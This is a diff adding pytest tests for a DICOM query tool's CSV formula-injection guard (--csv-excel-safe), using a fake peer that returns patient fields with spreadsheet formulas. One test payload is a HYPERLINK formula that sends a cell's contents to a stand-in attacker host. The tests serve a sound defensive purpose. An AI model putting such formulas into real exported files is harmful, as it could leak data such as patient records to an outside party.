@@ -262,3 +262,72 @@ def test_profile_errors_on_the_batch_path_are_sanitised(tmp_path):
                        timeout=60, env={**os.environ, "FINDTUI_CONFIG_DIR": str(folder)})
     assert r.returncode == ExitCode.BAD_INPUT
     assert "port must be" in assert_terminal_safe(r.stderr)
+
+
+# --------------------------------------------------------------------------
+# Formula injection: --csv-excel-safe
+# --------------------------------------------------------------------------
+
+FORMULAS = {  # PatientID: (PatientName, PatientComments) as the peer sends them
+    "F0": ('=HYPERLINK("https://e.vil/?"&A1,"click")', "@SUM(A1:A9)"),
+    "F1": ("+1+1", "-2+3"),
+    "F2": ("Doe^John", "a = b, no formula"),
+}
+
+
+def formula_script(s):
+    for pid, (name, comments) in FORMULAS.items():
+        s.pending(s.element(0x00080005, "CS", b"ISO_IR 192")
+                  + s.element(0x00100010, "PN", name.encode())
+                  + s.element(0x00100020, "LO", pid.encode())
+                  + s.element(0x00104000, "LT", comments.encode()))
+    s.final(0x0000)
+    s.finish()
+
+
+@pytest.fixture(scope="module")
+def formula_peer():
+    with FaultSCP(formula_script) as scp:
+        yield scp
+        assert not scp.errors
+
+
+def _csv_rows(run) -> list[dict]:
+    assert run.returncode == ExitCode.OK, run.err[-2000:]
+    return list(csv.DictReader(io.StringIO(run.stdout.decode("utf-8"))))
+
+
+def test_csv_keeps_values_as_they_came_by_default(formula_peer):
+    rows = _csv_rows(run_findtui(["-q", "--output-format", "csv", formula_peer.address,
+                                  str(formula_peer.port), *KEYS]))
+    assert [(r["PatientName"], r["PatientComments"]) for r in rows] == list(FORMULAS.values())
+
+
+def test_csv_excel_safe_neutralises_formulas(formula_peer, tmp_path):
+    out = tmp_path / "safe.csv"
+    run = run_findtui(["-q", "--output-format", "csv", "--csv-excel-safe", "--output", str(out),
+                       formula_peer.address, str(formula_peer.port), *KEYS])
+    assert run.returncode == ExitCode.OK, run.err[-2000:]
+    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
+    assert [(r["PatientID"], r["PatientName"], r["PatientComments"]) for r in rows] == [
+        ("F0", '\'=HYPERLINK("https://e.vil/?"&A1,"click")', "'@SUM(A1:A9)"),
+        ("F1", "'+1+1", "'-2+3"),
+        ("F2", "Doe^John", "a = b, no formula"),  # harmless cells are left alone
+    ]
+
+
+def test_excel_safe_covers_owasps_list():
+    from findtui.engine.output import excel_safe
+
+    for start in "=+-@\t\r":
+        assert excel_safe(start + "1") == "'" + start + "1"
+    assert excel_safe("") == "" and excel_safe("1-2") == "1-2" and excel_safe("'=x") == "'=x"
+
+
+@pytest.mark.parametrize("fmt", [[], ["--output-format", "json"]])
+def test_csv_excel_safe_without_csv_is_a_usage_error(formula_peer, fmt):
+    run = run_findtui(["--csv-excel-safe", *fmt, formula_peer.address, str(formula_peer.port),
+                       *KEYS])
+    assert run.returncode == ExitCode.USAGE
+    assert "--csv-excel-safe applies to CSV: add --output-format csv" in run.err
+    assert_no_traceback(run)
